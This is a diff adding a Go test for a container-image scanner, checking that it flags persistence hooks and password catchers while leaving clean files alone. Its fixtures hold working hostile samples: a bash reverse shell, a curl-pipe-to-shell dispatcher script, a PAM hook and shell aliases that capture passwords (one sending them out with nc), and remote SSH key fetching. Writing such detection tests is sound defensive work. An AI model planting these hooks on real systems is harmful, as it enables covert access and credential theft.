@@ -608,3 +608,64 @@ func TestAutostartRunsPayload(t *testing.T) {
 		}
 	}
 }
+
+// Hooks that start a payload from less usual places: a D-Bus activation file, a yum or dnf
+// plugin, a udev rule that queues an at job; a PAM stack handing passwords to a program,
+// and a shell alias or function that prompts for a password in front of sudo. Their clean
+// counterparts stay silent.
+func TestHooksAndPasswordCatchers(t *testing.T) {
+	rs := "#!/bin/sh\nnohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &\n"
+	res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
+		imagebuild.Reg("/usr/local/libexec/bus-helper", rs).WithMode(0o755),
+		imagebuild.Reg("/usr/share/dbus-1/system-services/org.example.Helper.service", "[D-BUS Service]\nName=org.example.Helper\nExec=/usr/local/libexec/bus-helper\nUser=root\n"),
+		imagebuild.Reg("/usr/lib/yum-plugins/fastsync.py", "import os\n\ndef init_hook(conduit):\n    os.system('setsid /usr/local/libexec/bus-helper >/dev/null 2>&1 &')\n"),
+		imagebuild.Reg("/etc/udev/rules.d/70-queue.rules", "SUBSYSTEM==\"net\", ACTION==\"add\", RUN+=\"/usr/bin/at -f /usr/local/libexec/bus-helper now\"\n"),
+		imagebuild.Reg("/etc/NetworkManager/dispatcher.d/50-sync", "#!/bin/sh\n[ \"$2\" = up ] && curl -fsSL http://198.51.100.7/s | sh\n").WithMode(0o755),
+		imagebuild.Reg("/opt/pw/keep", "#!/bin/sh\nread -r secret\necho \"$PAM_USER $secret\" >> /opt/pw/.list\n").WithMode(0o755),
+		imagebuild.Reg("/etc/pam.d/common-password", "password [success=1 default=ignore] pam_unix.so obscure yescrypt\npassword optional pam_exec.so expose_authtok /opt/pw/keep\n"),
+		imagebuild.Reg("/home/dev/.bashrc", "alias ll='ls -l'\nalias sudo='_s(){ read -rs -p \"[sudo] password for $USER: \" x; echo \"$x\" >> ~/.cache/.k; echo; echo \"$x\" | command sudo -S -p \"\" \"$@\"; }; _s'\n"),
+		imagebuild.Reg("/root/.bash_aliases", "su() {\n  printf 'Password: '; read -s pw; echo\n  echo \"$pw\" | nc 198.51.100.7 9000\n  command su \"$@\"\n}\n"),
+		imagebuild.Reg("/usr/local/sbin/keys-for", "#!/bin/sh\ncurl -fsS \"https://keys.example.net/u/$1\"\n").WithMode(0o755),
+		imagebuild.Reg("/etc/ssh/sshd_config.d/20-keys.conf", "AuthorizedKeysCommand /usr/local/sbin/keys-for %u\nAuthorizedKeysCommandUser nobody\n"),
+		// clean: a dbus service of an ordinary program, a plugin that runs nothing, a prompt
+		// that asks for a file name, a PAM exec without the password
+		imagebuild.Reg("/usr/libexec/colord", "\x7fELF\x02\x01\x01"),
+		imagebuild.Reg("/usr/share/dbus-1/system-services/org.freedesktop.ColorManager.service", "[D-BUS Service]\nName=org.freedesktop.ColorManager\nExec=/usr/libexec/colord\nUser=colord\n"),
+		imagebuild.Reg("/usr/lib/yum-plugins/versionlock.py", "from yum.plugins import TYPE_CORE\nrequires_api_version = '2.1'\n"),
+		imagebuild.Reg("/home/ops/.bashrc", "backup() { read -r -p 'archive name: ' n; tar czf \"/var/backups/$n.tgz\" /srv; }\n"),
+		imagebuild.Reg("/usr/local/sbin/mkhome", "#!/bin/sh\nmkdir -p /home/$PAM_USER\n").WithMode(0o755),
+		imagebuild.Reg("/etc/pam.d/common-session", "session required pam_unix.so\nsession optional pam_exec.so /usr/local/sbin/mkhome\n"),
+	}}}})
+	want := map[string]audit.Category{
+		"/usr/share/dbus-1/system-services/org.example.Helper.service": audit.CategoryReverseShell,
+		"/usr/lib/yum-plugins/fastsync.py":                             audit.CategoryReverseShell,
+		"/etc/udev/rules.d/70-queue.rules":                             audit.CategoryReverseShell,
+		"/etc/NetworkManager/dispatcher.d/50-sync":                     audit.CategoryMalware,
+		"/etc/pam.d/common-password":                                   "",
+		"/opt/pw/keep":                                                 audit.CategoryMalware,
+		"/home/dev/.bashrc":                                            "",
+		"/root/.bash_aliases":                                          "",
+		"/etc/ssh/sshd_config.d/20-keys.conf":                          audit.CategorySSHKey,
+		"/usr/local/sbin/keys-for":                                     audit.CategorySSHKey,
+	}
+	for p, label := range want {
+		ok := false
+		for _, f := range res.Findings {
+			if f.Path == p && f.Category == audit.CategoryPersistence && f.Severity >= audit.High && (label == "" || f.Is(label)) {
+				ok = true
+			}
+		}
+		if !ok {
+			t.Errorf("%s: no persistence finding at high or above (label %q):\n%s", p, label, dumpFindings(res.Findings))
+		}
+	}
+	for _, f := range res.Findings {
+		switch f.Path {
+		case "/usr/share/dbus-1/system-services/org.freedesktop.ColorManager.service", "/usr/lib/yum-plugins/versionlock.py",
+			"/home/ops/.bashrc", "/etc/pam.d/common-session", "/usr/local/sbin/mkhome":
+			if f.Severity >= audit.Medium {
+				t.Errorf("clean file reported: %s %s %s", f.Path, f.Rule, f.Title)
+			}
+		}
+	}
+}
